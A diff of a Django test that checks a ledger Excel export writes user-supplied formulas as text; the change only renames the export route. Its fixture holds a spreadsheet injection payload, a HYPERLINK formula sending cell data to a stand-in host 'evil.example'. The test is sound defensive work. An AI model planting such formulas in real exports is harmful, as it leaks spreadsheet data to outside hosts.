@@ -19,7 +19,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 def test_excel_export_writes_formulas_as_text(client, cast, inspection, units):
     MeasureFactory(finding__inspection=inspection, lead_department=units.enforcement, text=FORMULA)
     client.force_login(cast.office)
-    content = client.get(reverse("documents:ledger_export")).content
+    content = client.get(reverse("reports:ledger_export")).content
     sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet and "HYPERLINK" in sheet
 
